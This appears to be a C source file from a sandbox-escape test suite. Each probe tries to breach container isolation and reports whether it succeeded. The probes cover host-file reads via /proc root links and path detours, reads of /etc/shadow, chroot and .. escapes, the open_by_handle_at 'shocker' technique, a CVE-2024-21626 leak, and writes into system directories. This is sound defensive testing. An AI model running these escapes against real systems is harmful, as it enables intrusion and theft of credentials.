// Reading the host's files, by every route that a sandbox has.
#include "attack.h"

#include <dirent.h>
#include <sched.h>

/// Tries a host path by its own name and by every detour; says which way led there.
static void read_by_all_routes(const char *path, const char *token) {
    static const char *const prefixes[] = {
        "", "/.old-root", "/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../../../../../..",
        "/proc/thread-self/root", "/proc/1/cwd/..", "/oldroot", "/put_old", "/mnt", "/host", "/rootfs",
        "/dev/fd/../root", "/proc/self/fd/0/..", "/sys/../..", "/tmp/../../.."};
    char name[4096];
    for (size_t i = 0; i < sizeof prefixes / sizeof *prefixes; i++) {
        snprintf(name, sizeof name, "%s%s", prefixes[i], path);
        if (file_holds(name, token)) breached("read the host's file as %s", name);
    }
}

ATTACK(host_file_read, "host-file-read", "reads a host file (PATH TOKEN) by name and by every detour") {
    const char *path = text_argument(count, arguments, 0), *token = text_argument(count, arguments, 1);
    read_by_all_routes(path, token);
    contained("%s has no way to it", path);
}

ATTACK(shadow_read, "shadow-read", "reads the host's password hashes") {
    static const char *const names[] = {
        "/etc/shadow", "/.old-root/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/.old-root/etc/gshadow"};
    char buffer[512];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        if (read_file(names[i], buffer, sizeof buffer) > 0) breached("read %zu bytes of %s", strlen(buffer), names[i]);
    refused("/etc/shadow");
}

ATTACK(home_listing, "home-listing", "lists home directories and state of the host") {
    static const char *const names[] = {
        "/root", "/home", "/var/lib", "/var/log", "/run", "/.old-root/root", "/.old-root/home", "/.old-root/var/lib"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        DIR *directory = opendir(names[i]);
        if (!directory) continue;
        struct dirent *entry;
        while ((entry = readdir(directory))) {
            bool own = strcmp(names[i], "/home") == 0 && strcmp(entry->d_name, "user") == 0;
            bool plain = strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0;
            if (!own && !plain) breached("%s holds %s", names[i], entry->d_name);
        }
        closedir(directory);
    }
    contained("nothing there but the sandbox's own home");
}

ATTACK(dot_dot_walk, "dot-dot-walk", "climbs out by .. chains from every directory (PATH TOKEN)") {
    const char *path = text_argument(count, arguments, 0), *token = text_argument(count, arguments, 1);
    static const char *const starts[] = {"/", "/tmp", "/usr", "/proc", "/proc/self", "/dev", "/dev/pts", "/etc", "."};
    char up[512] = ".";
    for (int i = 0; i < 64; i++) strcat(up, "/..");
    strncat(up, path, sizeof up - strlen(up) - 1);
    for (size_t i = 0; i < sizeof starts / sizeof *starts; i++) {
        int directory = open(starts[i], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (directory < 0) continue;
        if (file_at_holds(directory, up, token)) breached("from %s by ..", starts[i]);
        close(directory);
    }
    contained(".. of the root is the root");
}

ATTACK(chroot_walk, "chroot-walk", "leaves by chroot below an open directory, then .. (PATH TOKEN)") {
    const char *path = text_argument(count, arguments, 0), *token = text_argument(count, arguments, 1);
    char directory[256];
    snprintf(directory, sizeof directory, "%s/chroot-walk", scratch_directory());
    mkdir(directory, 0700);
    int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int result = chroot(directory);
    int error = errno;
    if (result == 0) {
        if (fchdir(outside) == 0)
            for (int i = 0; i < 64; i++)
                if (chdir("..") < 0) break;
        bool found = file_at_holds(AT_FDCWD, path + 1, token);
        if (fchdir(outside) == 0 && chroot(".") == 0) rmdir(directory);
        if (found) breached("the host's file by leaving a chroot");
        contained("chroot was allowed, but .. ended at the sandbox's root");
    }
    rmdir(directory);
    errno = error;
    refused("chroot");
}

ATTACK(chroot_call, "chroot-call", "changes its root directory") {
    if (chroot("/tmp") < 0) refused("chroot");
    breached("chroot was allowed: set-user-ID programs could be fed another /etc");
}

ATTACK(init_root_link, "init-root-link", "follows the magic links of process 1") {
    static const char *const names[] = {"/proc/1/root", "/proc/1/cwd", "/proc/1/exe", "/proc/1/fd",
        "/proc/1/map_files"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_RDONLY | O_CLOEXEC);
        if (fd >= 0) breached("opened %s", names[i]);
    }
    refused("/proc/1/root");
}

ATTACK(host_directory_write, "host-directory-write", "makes a file in a writable directory of the host (DIRECTORY)") {
    const char *directory = text_argument(count, arguments, 0);
    static const char *const prefixes[] = {"", "/.old-root", "/proc/1/root", "/proc/self/root/.."};
    char name[4096];
    for (size_t i = 0; i < sizeof prefixes / sizeof *prefixes; i++) {
        snprintf(name, sizeof name, "%s%s/planted", prefixes[i], directory);
        int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0) breached("made %s", name);
    }
    refused(directory);
}

ATTACK(system_write, "system-write", "writes into the userland; the host looks for the traces (NAME)") {
    const char *name = text_argument(count, arguments, 0);
    static const char *const directories[] = {
        "/usr", "/usr/bin", "/usr/lib", "/usr/local/bin", "/bin", "/lib", "/sbin", "/etc", "/etc/ssl/certs",
        "/etc/alternatives", "/etc/cron.d", "/etc/ld.so.conf.d", "/", "/opt", "/srv", "/var", "/run", "/root"};
    char path[4096];
    int made = 0;
    for (size_t i = 0; i < sizeof directories / sizeof *directories; i++) {
        snprintf(path, sizeof path, "%s/%s", directories[i], name);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0) continue;
        made++;
        close(fd);
    }
    // The sandbox may well succeed in its own layer: only the host can tell whether anything went through.
    contained("made %d files by that name in its own tree", made);
}

ATTACK(working_directory, "working-directory-leak", "its working directory lies outside the root (CVE-2024-21626)") {
    char path[4096];
    if (!getcwd(path, sizeof path)) breached("the working directory has no path: %s", strerror(errno));
    if (path[0] != '/') breached("the working directory is %s", path);
    struct stat here, named;
    if (stat(".", &here) < 0 || stat(path, &named) < 0) contained("%s: %s", path, strerror(errno));
    if (here.st_ino != named.st_ino || here.st_dev != named.st_dev) breached("%s is not the working directory", path);
    contained("the working directory is %s of the sandbox", path);
}

static int try_handle(int mount, const void *bytes, unsigned size, int type) {
    struct {
        struct file_handle header;
        unsigned char room[MAX_HANDLE_SZ];
    } handle;
    memset(&handle, 0, sizeof handle);
    handle.header.handle_bytes = size;
    handle.header.handle_type = type;
    memcpy(handle.header.f_handle, bytes, size);
    return (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
}

ATTACK(handle_brute_force, "file-handle-open", "opens files by guessed and by taken handles (shocker)") {
    static const char *const anchors[] = {"/usr/bin/env", "/etc/localtime", "/etc/hostname", "/tmp", "/home/user", "/"};
    int error = EPERM;
    for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++) {
        int anchor = open(anchors[i], O_RDONLY | O_CLOEXEC);
        if (anchor < 0) continue;
        for (uint32_t inode = 1; inode <= 3; inode++) {
            // The layout of ext4: inode number and generation. Inode 2 is the root of the file system.
            uint32_t guess[2] = {inode, 0};
            if (try_handle(anchor, guess, sizeof guess, 1) >= 0)
                breached("inode %u by handle below %s", inode, anchors[i]);
            error = errno;
        }
        struct {
            struct file_handle header;
            unsigned char room[MAX_HANDLE_SZ];
        } taken;
        memset(&taken, 0, sizeof taken);
        taken.header.handle_bytes = MAX_HANDLE_SZ;
        int mount;
        if (name_to_handle_at(AT_FDCWD, anchors[i], &taken.header, &mount, 0) == 0 &&
            syscall(SYS_open_by_handle_at, anchor, &taken.header, O_RDONLY) >= 0)
            breached("%s by its own handle", anchors[i]);
        close(anchor);
    }
    errno = error;
    refused("open_by_handle_at");
}

ATTACK(hard_link_steal, "hard-link-steal", "links files of others and of other mounts into its own directory (FILE)") {
    const char *file = text_argument(count, arguments, 0);
    char target[256];
    snprintf(target, sizeof target, "%s/stolen", scratch_directory());
    unlink(target);
    if (link(file, target) == 0) {
        unlink(target);
        breached("linked %s across", file);
    }
    int error = errno;
    int fd = open(file, O_PATH | O_CLOEXEC);
    if (fd >= 0) {
        char name[64];
        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
        if (linkat(AT_FDCWD, name, AT_FDCWD, target, AT_SYMLINK_FOLLOW) == 0 ||
            linkat(fd, "", AT_FDCWD, target, AT_EMPTY_PATH) == 0) {
            unlink(target);
            breached("linked %s through its descriptor", file);
        }
    }
    errno = error;
    refused("link");
}

ATTACK(stale_blocks, "stale-blocks", "finds old data in fresh memory, files and preallocated blocks (MEBIBYTES)") {
    size_t size = (size_t)number_argument(count, arguments, 0) << 20;
    unsigned char *memory = malloc(size);
    if (!memory) skipped("no memory");
    char name[256];
    snprintf(name, sizeof name, "%s/stale", scratch_directory());
    int fd = open(name, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd < 0) skipped("no scratch file: %s", strerror(errno));
    unlink(name);
    if (posix_fallocate(fd, 0, (off_t)size) != 0) skipped("no space");
    if (pread(fd, memory, size, 0) < 0) skipped("read: %s", strerror(errno));
    for (size_t i = 0; i < size; i++)
        if (memory[i]) breached("byte %zu of a fresh file is %u", i, memory[i]);
    contained("%zu bytes are zero", size);
}

/// What a neighbour would leave in places that could be shared.
ATTACK(shared_directory_token, "shared-directory-token",
       "finds a file of another sandbox in /tmp, /dev/shm, /run (NAME)") {
    const char *name = text_argument(count, arguments, 0);
    static const char *const directories[] = {"/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/home/user", "/"};
    char path[4096];
    for (size_t i = 0; i < sizeof directories / sizeof *directories; i++) {
        snprintf(path, sizeof path, "%s/%s", directories[i], name);
        if (access(path, F_OK) == 0) breached("found %s", path);
    }
    contained("no %s anywhere", name);
}

ATTACK(leave_token, "leave-shared-token",
       "leaves a file in every shareable directory; another sandbox looks for it (NAME)") {
    const char *name = text_argument(count, arguments, 0);
    static const char *const directories[] = {"/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/home/user", "/"};
    char path[4096];
    int made = 0;
    for (size_t i = 0; i < sizeof directories / sizeof *directories; i++) {
        snprintf(path, sizeof path, "%s/%s", directories[i], name);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0) continue;
        made++;
        close(fd);
    }
    if (made == 0) skipped("nothing is writable");
    contained("left %d files", made);
}
